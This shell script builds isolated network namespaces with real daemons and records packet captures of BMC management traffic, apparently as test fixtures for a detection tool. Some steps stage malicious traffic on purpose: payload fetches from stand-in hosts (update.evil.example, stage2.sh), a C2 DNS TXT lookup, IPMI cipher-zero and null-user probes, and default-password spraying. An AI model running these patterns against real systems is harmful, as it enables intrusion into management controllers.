#!/bin/sh
# make-captures.sh - regenerate the small captures in this directory with
# real peers (chronyd, dnsmasq, ipmi_sim/ipmitool, nginx/curl, sshd/ssh,
# snmpd/snmpget, nmap) running in network namespaces on one bridge
# (built by netns-lib.sh, shared with make-discover.sh).
#
# Usage (as root): pcaps/make-captures.sh [OUTDIR]    (default: this dir)
#
# Writes demo-egress.pcap, ipmi-cipher0.pcap and mgmt-services.pcap.
# Traffic stays inside namespaces this script creates; everything is torn
# down on exit.  Determinism: IPv6 is off, every MAC and every neighbour
# entry is static (so no ARP/ND/MLD noise), routes use quickack, steps run
# one after another with pauses, two inherent races (nmap's triple probes,
# SSH KEXINIT) are ordered with a tc token bucket, and tcpdump only records
# after the daemons are up.  Packet order, count and length are the same on
# every run; timestamps, TCP sequence numbers, ephemeral ports, TLS/SSH
# randoms and keys differ.
set -eu

HERE=$(cd "$(dirname "$0")" && pwd)
OUT=${1:-$HERE}
mkdir -p "$OUT"
OUT=$(cd "$OUT" && pwd)

[ "$(id -u)" = 0 ] || { echo "make-captures.sh: must run as root (netns)" >&2; exit 1; }

# shellcheck source=pcaps/netns-lib.sh
. "$HERE/netns-lib.sh"

# ---- tools -------------------------------------------------------------
chk tcpdump tcpdump; chk ip iproute2; chk chronyd chrony
chk ipmi_sim openipmi; chk ipmitool ipmitool; chk dnsmasq dnsmasq
chk dig dnsutils; chk nginx nginx; chk curl curl; chk /usr/sbin/sshd openssh-server
chk ssh openssh-client; chk /usr/sbin/snmpd snmpd; chk snmpget snmp
chk python3 python3; chk nmap nmap; chk openssl openssl; chk logger bsdutils
install_missing
HAVE_NMAP=1; command -v nmap >/dev/null 2>&1 || HAVE_NMAP=0

netns_init bw captures

# ---- topology ----------------------------------------------------------
# name   address          mac
HOSTS="bmc1 10.50.0.10 02:00:00:00:50:10
bmc2 10.50.0.11 02:00:00:00:50:11
admin 10.1.0.40 02:00:00:00:01:40
ntp 10.1.0.10 02:00:00:00:01:10
dns 10.1.0.53 02:00:00:00:01:53
syslog 10.1.0.20 02:00:00:00:01:20
scan 10.1.0.66 02:00:00:00:01:66
out1 203.0.113.50 02:00:00:cb:00:50
out2 198.51.100.7 02:00:00:c6:33:07"
mktopo

# ---- peer configuration ------------------------------------------------
# nulluser: the empty name that the null-user RAKP in ipmi-cipher0 logs in as
mkipmi bmc1 0x1291 0xf02 nulluser
mkipmi bmc2 0x1291 0xf02 nulluser

# NTP server: serves its own clock, never touches the system clock (-x)
cat >"$W/chrony-srv.conf" <<EOF
allow
local stratum 8
cmdport 0
pidfile $W/chrony-srv.pid
EOF
bg ntp chronyd -x -d -u root -f "$W/chrony-srv.conf"

# DNS server (management) and a rogue resolver "outside"
bg dns dnsmasq -k -C /dev/null --no-resolv --no-hosts --no-poll \
    --listen-address=10.1.0.53 --bind-interfaces --user=root \
    --pid-file="$W/dnsmasq-dns.pid" --log-facility="$W/dnsmasq-dns.log" \
    --host-record=ntp.mgmt.example,10.1.0.10 \
    --host-record=dns.mgmt.example,10.1.0.53 \
    --host-record=syslog.mgmt.example,10.1.0.20 \
    --host-record=bmc1.mgmt.example,10.50.0.10 \
    --host-record=bmc2.mgmt.example,10.50.0.11 \
    --txt-record=bmc1.mgmt.example,"rack=A12 owner=infra"
bg out2 dnsmasq -k -C /dev/null --no-resolv --no-hosts --no-poll \
    --listen-address=198.51.100.7 --bind-interfaces --user=root \
    --pid-file="$W/dnsmasq-out2.pid" --log-facility="$W/dnsmasq-out2.log" \
    --txt-record=cmd.c2.evil.example,"sleep 3600"

# certificates (RSA: fixed-size signatures, so fixed packet lengths) and
# HTTP on 198.51.100.7 (nginx)
for cn in update.evil.example bmc1.mgmt.example; do
    openssl req -x509 -newkey rsa:2048 -nodes -set_serial 0x5ca1ab1e \
        -days 30 -subj "/CN=$cn" -keyout "$W/$cn.key" -out "$W/$cn.crt" 2>/dev/null
done
mknginx() { # mknginx NS LISTEN
    d=$W/nginx-$1; mkdir -p "$d"
    cat >"$d/nginx.conf" <<EOF
daemon off;
master_process off;
worker_processes 1;
pid $d/nginx.pid;
error_log $d/error.log;
events { worker_connections 64; }
http {
    access_log $d/access.log;
    client_body_temp_path $d; proxy_temp_path $d; fastcgi_temp_path $d;
    uwsgi_temp_path $d; scgi_temp_path $d;
    server_tokens off;
    server {
        listen $2;
        location / { default_type text/plain; return 200 "ok\n"; }
    }
}
EOF
    bg "$1" nginx -c "$d/nginx.conf" -p "$d"
}
mknginx out2 "198.51.100.7:80"

# HTTPS: a small Python/OpenSSL server (TLS 1.2, RSA, no tickets).  Unlike
# nginx it closes only after the client's FIN, so the TLS teardown comes
# out in the same order on every run (nginx races curl's close_notify).
cp "$HERE/tlsd.py" "$W/tlsd.py"
bg out1 python3 "$W/tlsd.py" 203.0.113.50 443 "$W/update.evil.example.crt" "$W/update.evil.example.key"
bg bmc1 python3 "$W/tlsd.py" 10.50.0.10 443 "$W/bmc1.mgmt.example.crt" "$W/bmc1.mgmt.example.key"

# sshd on bmc1: no user can log in; the client gives up after "none"
ssh-keygen -q -t ed25519 -N '' -f "$W/ssh_host_ed25519_key"
mkdir -p /run/sshd
cat >"$W/sshd_config" <<EOF
ListenAddress 10.50.0.10
Port 22
HostKey $W/ssh_host_ed25519_key
PidFile $W/sshd.pid
UsePAM no
PasswordAuthentication no
KbdInteractiveAuthentication no
PubkeyAuthentication yes
AuthorizedKeysFile none
EOF
bg bmc1 /usr/sbin/sshd -D -e -f "$W/sshd_config"

# snmpd on bmc1: v1/v2c community public, v3 user "monitor" (authPriv)
mkdir -p "$W/snmp"
cat >"$W/snmpd.conf" <<EOF
agentAddress udp:10.50.0.10:161
rocommunity public 10.0.0.0/8
createUser monitor SHA "m0nitor-auth" AES "m0nitor-priv"
rouser monitor priv
sysName bmc1.mgmt.example
sysDescr BMC firmware 2.61 (simulated)
sysLocation rack A12
sysContact infra@mgmt.example
master no
EOF
bg bmc1 env SNMP_PERSISTENT_DIR="$W/snmp" \
    /usr/sbin/snmpd -f -Lf "$W/snmpd.log" -C -c "$W/snmpd.conf" -p "$W/snmpd.pid"

# syslog collector on 10.1.0.20:514/udp (just receives, so no ICMP errors)
bg syslog python3 -c '
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("10.1.0.20", 514))
while True:
    d, a = s.recvfrom(65535)
    sys.stdout.write("%s %r\n" % (a[0], d)); sys.stdout.flush()'

# wait for the listeners
waitport bmc1 udp '0.0.0.0:623'
waitport bmc2 udp '0.0.0.0:623'
waitport ntp udp '0.0.0.0:123'
waitport dns udp '10.1.0.53:53'
waitport dns tcp '10.1.0.53:53'
waitport out2 udp '198.51.100.7:53'
waitport out1 tcp '203.0.113.50:443'
waitport out2 tcp '198.51.100.7:80'
waitport bmc1 tcp '10.50.0.10:443'
waitport bmc1 tcp '10.50.0.10:22'
waitport bmc1 udp '10.50.0.10:161'
waitport syslog udp '10.1.0.20:514'

# ---- steps -------------------------------------------------------------
IPMI_IF=lanplus     # every ipmitool call here speaks RMCP+
DIG="dig +tries=1 +time=2 +nocookie +noedns"

# ---- 1. demo-egress.pcap -----------------------------------------------
start_cap demo-egress.pcap
# routine management: admin polls both BMCs over IPMI (cipher suite 3)
ipmi admin 10.50.0.10 -U monitor -P mon1tor -L USER -C 3 mc info; step
ipmi admin 10.50.0.11 -U monitor -P mon1tor -L USER -C 3 mc info; step
# BMCs use the management NTP and DNS servers
x bmc1 chronyd -Q -u root -t 10 'server 10.1.0.10 iburst maxsamples 4' 'cmdport 0' "pidfile $W/c1.pid" >>"$W/chrony-cli.log" 2>&1; step
x bmc2 chronyd -Q -u root -t 10 'server 10.1.0.10 iburst maxsamples 4' 'cmdport 0' "pidfile $W/c2.pid" >>"$W/chrony-cli.log" 2>&1; step
x bmc1 $DIG -b 10.50.0.10 @10.1.0.53 ntp.mgmt.example A >>"$W/dig.log"; step
x bmc1 $DIG -b 10.50.0.10 @10.1.0.53 bmc1.mgmt.example TXT >>"$W/dig.log"; step
x bmc2 $DIG -b 10.50.0.11 @10.1.0.53 syslog.mgmt.example A >>"$W/dig.log"; step
ipmi admin 10.50.0.10 -U monitor -P mon1tor -L USER -C 3 chassis status; step
# forbidden egress from bmc1
x bmc1 curl -sk --max-time 5 --resolve update.evil.example:443:203.0.113.50 \
    -o /dev/null https://update.evil.example/firmware.bin; step
x bmc1 curl -s --max-time 5 -o /dev/null -A 'Wget/1.21' http://198.51.100.7/stage2.sh; step
x bmc1 $DIG -b 10.50.0.10 @198.51.100.7 cmd.c2.evil.example TXT >>"$W/dig.log"; step
stop_cap demo-egress.pcap

# ---- 2. ipmi-cipher0.pcap ----------------------------------------------
start_cap ipmi-cipher0.pcap
ipmi admin 10.50.0.10 -U monitor -P mon1tor -L USER -C 3 mc info; step
ipmi admin 10.50.0.10 -U ADMIN -P wrongpassword -C 0 chassis status; step
ipmi admin 10.50.0.10 -U '' -P '' -C 3 mc info; step
if [ "$HAVE_NMAP" = 1 ]; then
    # One script per run: run together they interleave differently each
    # time.  Both scripts fire 3 identical probes back to back and close the
    # socket after the first reply, so the BMC's replies race the close.  A
    # token bucket on bmc1 (burst 100 B: one reply, < two 72 B replies)
    # spaces the replies ~10-20 ms apart: the order is then always
    # req req req, reply, reply + ICMP unreachable, reply + ICMP unreachable.
    x bmc1 tc qdisc add dev eth0 root tbf rate 32kbit burst 100 latency 1s
    for s in ipmi-version ipmi-cipher-zero; do
        x scan nmap -n -sU -Pn -p 623 -g 48623 --max-retries 0 --script "$s" 10.50.0.10 \
            >>"$W/nmap.log" 2>&1 || true
        step
    done
    x bmc1 tc qdisc del dev eth0 root
fi
for u in admin root Administrator USERID ADMIN operator monitor guest; do
    ipmi scan 10.50.0.10 -U "$u" -P calvin -C 3 mc info; sleep 0.2
done
stop_cap ipmi-cipher0.pcap

# ---- 3. mgmt-services.pcap ---------------------------------------------
start_cap mgmt-services.pcap
SNMPGET="snmpget -m '' -On -r 0 -t 2"
x admin sh -c "$SNMPGET -v2c -c public 10.50.0.10 .1.3.6.1.2.1.1.5.0 .1.3.6.1.2.1.1.6.0" >>"$W/snmp.log" 2>&1 || true; step
x admin sh -c "$SNMPGET -v1 -c public 10.50.0.10 .1.3.6.1.2.1.1.1.0" >>"$W/snmp.log" 2>&1 || true; step
x admin sh -c "$SNMPGET -v3 -l authPriv -u monitor -a SHA -A m0nitor-auth -x AES -X m0nitor-priv 10.50.0.10 .1.3.6.1.2.1.1.5.0" >>"$W/snmp.log" 2>&1 || true; step
# Both SSH ends send KEXINIT as soon as they see the peer's banner, a real
# race.  Holding the client's KEXINIT back ~30 ms (token bucket: the admin's
# handshake+banner leave too few tokens for its 1.6 KB KEXINIT) makes the
# server's KEXINIT come first every time.
x admin tc qdisc add dev eth0 root tbf rate 64kbit burst 1700 latency 2s
x admin ssh -F /dev/null -o BatchMode=yes -o StrictHostKeyChecking=no \
    -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no \
    -o PasswordAuthentication=no -o KbdInteractiveAuthentication=no \
    -o GSSAPIAuthentication=no -o ConnectTimeout=5 admin@10.50.0.10 true >>"$W/ssh.log" 2>&1 || true; step
x admin tc qdisc del dev eth0 root
x bmc1 unshare -u sh -c 'hostname bmc1 && exec "$@"' sh logger -d -n 10.1.0.20 -P 514 --rfc3164 -t bmc1 -p auth.warning \
    'Login failure: user ADMIN from 10.1.0.40'; step
x bmc1 $DIG +tcp -b 10.50.0.10 @10.1.0.53 bmc1.mgmt.example TXT >>"$W/dig.log"; step
x admin curl -sk --max-time 5 --resolve bmc1.mgmt.example:443:10.50.0.10 \
    -o /dev/null https://bmc1.mgmt.example/redfish/v1/; step
stop_cap mgmt-services.pcap
